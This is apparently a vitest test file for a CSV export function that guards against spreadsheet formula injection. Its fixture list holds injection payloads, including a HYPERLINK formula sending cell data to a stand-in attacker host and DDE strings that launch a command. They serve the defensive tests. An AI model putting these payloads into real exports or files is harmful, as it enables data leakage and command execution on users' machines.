import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { type Answer, answerCsv } from "./answer.ts";

const of = (...cells: (string | number | null)[]): Answer => ({
  columns: ["=id", "prediction"],
  rows: cells.map((cell) => [cell, 0.5]),
  ids: 1,
});
const read = (text: string): string[] =>
  Papa.parse<string[]>(text, { skipEmptyLines: true }).data.map(([cell]) => cell);

const formulas = [
  '=HYPERLINK("https://attacker.example?"&A1)',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  " =1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "-",
  "+49 30 123456",
];

describe("predictions as CSV", () => {
  it("are as they are by default", () => {
    expect(read(answerCsv(of(...formulas)))).toEqual(["=id", ...formulas]);
    expect(answerCsv(of("=1", -1))).toBe("=id,prediction\n=1,0.5\n-1,0.5\n");
  });

  it("begin no formula for a spreadsheet, in cells and in names of columns", () => {
    const text = answerCsv(of(...formulas), { spreadsheet: true });
    expect(read(text)).toEqual(["'=id", ...formulas.map((cell) => `'${cell}`)]);
    // With another separator than the file's, quotes still hold a text together.
    expect(answerCsv(of("a;=1+1"), { spreadsheet: true })).toBe('"\'=id","prediction"\n"a;=1+1",0.5\n');
  });

  it("keep numbers, negative ones among them, and plain texts for a spreadsheet", () => {
    const plain = ["-1", "+1.5", "-1,234.50", "-1e-5", "-12 %".replace(" ", ""), "a=b", "it's", ""];
    expect(read(answerCsv(of(...plain, -1.5, null), { spreadsheet: true })).slice(1)).toEqual([
      ...plain,
      "-1.5",
      "",
    ]);
  });

  it("are checked in linear time", () => {
    for (const cell of [`-${"1".repeat(200_000)}x`, `${" ".repeat(200_000)}x`, `-${".".repeat(200_000)}=`])
      expect(answerCsv(of(cell), { spreadsheet: true })).toContain(cell);
  }, 10_000);
});
